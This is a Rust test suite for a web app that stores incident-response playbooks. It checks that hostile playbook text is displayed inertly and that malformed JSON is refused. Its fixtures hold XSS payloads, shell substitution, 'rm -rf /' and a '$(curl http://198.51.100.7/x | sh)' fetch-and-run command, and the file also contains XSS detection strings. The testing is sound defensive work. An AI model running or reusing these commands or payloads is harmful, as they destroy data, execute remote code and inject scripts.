//! A playbook of somebody who means harm is text, and nothing but text.

use crate::site::{MANAGER, SECOND, site};
use axum::http::StatusCode;
use scr_desk_response::library;
use scr_playbooks::starters::STARTERS;
use serde_json::{Value, json};

const EVIL: &str = "\"><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}${IFS}`id`\u{202e}gnp";

/// The first starter with hostile texts wherever a text can stand.
fn hostile() -> Value {
    let mut value: Value = serde_json::from_str(STARTERS[0].text).unwrap();
    value["name"] = json!(EVIL);
    value["description"] = json!(format!("{EVIL} attacker@example.com; rm -rf / #{}", "A".repeat(200_000)));
    value["playbook_extensions"] = json!(null);
    value.as_object_mut().unwrap().remove("playbook_extensions");
    for agent in value["agent_definitions"].as_object_mut().unwrap().values_mut() {
        agent["name"] = json!(EVIL);
        agent.as_object_mut().unwrap().remove("agent_target_extensions");
    }
    let mut is_first = true;
    for step in value["workflow"].as_object_mut().unwrap().values_mut() {
        step["name"] = json!(EVIL);
        step.as_object_mut().unwrap().remove("step_extensions");
        if let Some(commands) = step.get_mut("commands") {
            commands[0]["command"] = json!(format!("{EVIL}\r\n$(curl http://198.51.100.7/x | sh)"));
            if std::mem::replace(&mut is_first, false) {
                commands[0]["type"] = json!("bash");
            }
        }
    }
    value
}

/// Nothing of a page is made by the playbook.
fn is_inert(page: &str) {
    for bad in ["<script>alert", "<img src=x", "\"><script", "href=\"javascript:"] {
        assert!(!page.contains(bad), "{bad} in {}", &page[..page.len().min(4_000)]);
    }
    assert!(page.len() < 1_000_000, "{}", page.len());
}

#[tokio::test]
async fn scripts_shell_characters_and_addresses_are_shown_as_text() {
    let site = site();
    let text = hostile().to_string();
    let check =
        site.post(MANAGER, "/desk/response/playbooks/check", &[("text", &text[..1]), ("code", "")]).await;
    assert_eq!(check.status, StatusCode::UNPROCESSABLE_ENTITY);
    let answer = site.file(MANAGER, "/desk/response/playbooks/new/file", "", text.as_bytes()).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    let path = answer.to.split('?').next().unwrap().to_owned();
    let code = path.rsplit('/').next().unwrap().to_owned();
    assert!(code.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-'), "{code}");
    let page = site.get(MANAGER, &path).await;
    assert_eq!(page.status, StatusCode::OK);
    is_inert(&page.body);
    assert!(!page.body.contains('\u{202e}'), "nothing turns the direction of writing");
    assert!(page.body.contains("Never executed here") && page.body.contains("not-executed"));
    assert!(page.body.contains("curl http://198.51.100.7/x | sh"), "shown, so that a person can judge it");
    // Every other page that shows it.
    let version = site.app.engine.read(|views| library::version(views, &code, 1)).unwrap().unwrap();
    let book = library::book(&site.app, &version.sha256).unwrap();
    let step = &book.graph.nodes.iter().find(|node| node.id.starts_with("action--")).unwrap().id;
    for more in [
        "/adopt".to_owned(),
        "/edit/about".to_owned(),
        "/edit/add".to_owned(),
        "/edit/role".to_owned(),
        format!("/edit/step?step={step}"),
        format!("/edit/move?step={step}"),
        format!("/edit/link?step={step}"),
    ] {
        is_inert(&site.get(SECOND, &format!("{path}{more}")).await.body);
    }
    is_inert(&site.get(MANAGER, "/desk/response/playbooks").await.body);
    // The file itself is handed out as it is, and never as a page.
    let file = site.get(MANAGER, &format!("{path}/versions/1/playbook.json")).await;
    assert_eq!((file.kind.as_str(), file.body == text), ("application/json", true));
    if book.plan.is_some() {
        assert_eq!(crate::story::adopted(&site, SECOND, &code).await, StatusCode::SEE_OTHER);
        is_inert(&site.get("", &format!("/response/playbooks/{code}")).await.body);
        is_inert(&site.get("", "/response/playbooks").await.body);
    }
    // Of the record, no text of it is public before it is adopted, but for the short name that is made of its name.
    let entries: Vec<String> = site
        .app
        .engine
        .read(|views| {
            let mut all = views.prepare("SELECT public FROM engine_event")?;
            all.query_map([], |row| row.get(0))?.collect()
        })
        .unwrap();
    assert!(
        entries.iter().all(|entry| !entry.contains("attacker") && !entry.contains("<script")),
        "{entries:?}"
    );
}

#[tokio::test]
async fn what_is_deep_huge_broken_or_no_playbook_is_refused_or_a_draft() {
    let site = site();
    let deep = format!("{{\"a\":{}{}}}", "[".repeat(4_000), "]".repeat(4_000));
    let twice = "{\"type\":\"playbook\",\"type\":\"playbook\"}";
    let large = format!("{{\"a\":\"{}\"}}", "x".repeat(5 << 20));
    for bad in [deep.as_str(), twice, &large, "[]", "no json", "{\"a\":\"\\ud800\"}"] {
        let answer = site.file(MANAGER, "/desk/response/playbooks/new/file", "", bad.as_bytes()).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(answer.body.contains("cannot be read as a playbook"), "{}", &bad[..bad.len().min(80)]);
    }
    let nothing = site.file(MANAGER, "/desk/response/playbooks/new/file", "", b"").await;
    assert!(nothing.body.contains("There is nothing to read"));
    // JSON that says nothing of a playbook: a draft with errors, which nobody adopts.
    let answer =
        site.post(MANAGER, "/desk/response/playbooks/new/text", &[("text", "{}"), ("code", "empty")]).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    let page = site.get(MANAGER, "/desk/response/playbooks/empty").await;
    assert!(page.body.contains("keep it from being adopted") && page.body.contains("There is no picture"));
    assert_eq!(crate::story::adopted(&site, SECOND, "empty").await, StatusCode::UNPROCESSABLE_ENTITY);
    let page = site.get(SECOND, "/desk/response/playbooks/empty/adopt").await;
    assert_eq!(page.status, StatusCode::OK);
}

#[tokio::test]
async fn missing_and_unreachable_steps_and_endless_ways_are_named_at_their_step() {
    let site = site();
    let mut value: Value = serde_json::from_str(STARTERS[0].text).unwrap();
    let steps = value["workflow"].as_object_mut().unwrap();
    let lonely = "action--00000000-0000-4000-8000-00000000000a";
    let mut step = steps.values().find(|step| step["type"] == "action").unwrap().clone();
    step["name"] = json!("Nobody comes here");
    step["on_completion"] = json!("action--00000000-0000-4000-8000-00000000000b");
    steps.insert(lonely.to_owned(), step);
    steps.insert(
        "while-condition--00000000-0000-4000-8000-00000000000c".to_owned(),
        json!({"type": "while-condition", "condition": "1 = 1", "on_true": lonely}),
    );
    let text = value.to_string();
    let page = site.post(MANAGER, "/desk/response/playbooks/check", &[("text", &text)]).await;
    assert_eq!(page.status, StatusCode::OK);
    for code in ["step-missing", "unreachable", "unbounded-loop"] {
        assert!(page.body.contains(&format!("<code>{code}</code>")), "{code}: {}", page.body);
    }
    assert!(page.body.contains("Nobody comes here") && page.body.contains("Never reached"));
    assert!(page.body.contains("Nothing was kept"));
    let none = site.app.engine.read(|views| library::newest(views, None)).unwrap();
    assert_eq!(none, []);
    let body = json!({"file": scr_canon::b64(text.as_bytes())});
    let answer = site.call(MANAGER, "/api/v1/response/playbooks/check", &body).await;
    let answer: Value = serde_json::from_str(&answer.body).unwrap();
    assert_eq!((&answer["sound"], answer["errors"].as_u64().unwrap() >= 3), (&json!(false), true));
    let codes: Vec<&str> =
        answer["findings"].as_array().unwrap().iter().filter_map(|one| one["code"].as_str()).collect();
    assert!(codes.contains(&"unreachable") && codes.contains(&"unbounded-loop"));
}
